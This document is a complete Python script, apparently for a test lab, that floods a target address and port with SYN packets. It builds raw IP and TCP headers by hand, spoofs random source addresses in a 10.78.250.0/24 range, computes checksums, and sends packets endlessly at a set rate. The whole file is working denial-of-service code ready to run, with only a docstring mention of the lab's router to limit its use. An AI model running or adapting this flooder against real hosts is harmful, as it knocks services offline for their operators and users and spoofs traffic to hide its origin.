"""synflood.py ADDRESS PORT PER_SECOND: SYNs from random sources in 10.78.250.0/24, which the lab's router blackholes."""
import random, socket, struct, sys, time

address, port, per_second = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
destination = socket.inet_aton(address)


def checksum(data):
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(number):
    source = socket.inet_aton('10.78.250.%d' % random.randint(1, 254))
    header = struct.pack('!HHIIBBHHH', random.randint(1024, 65535), port, random.getrandbits(32), 0, 0x60, 2, 64240, 0, 0)
    tcp = header + b'\x02\x04\x05\xb4'
    pseudo = source + destination + struct.pack('!BBH', 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), number & 0xFFFF, 0, 64, 6, 0, source, destination)
    return ip + tcp


started, sent = time.time(), 0
while True:
    out.sendto(syn(sent), (address, 0))
    sent += 1
    ahead = started + sent / per_second - time.time()
    if ahead > 0:
        time.sleep(ahead)
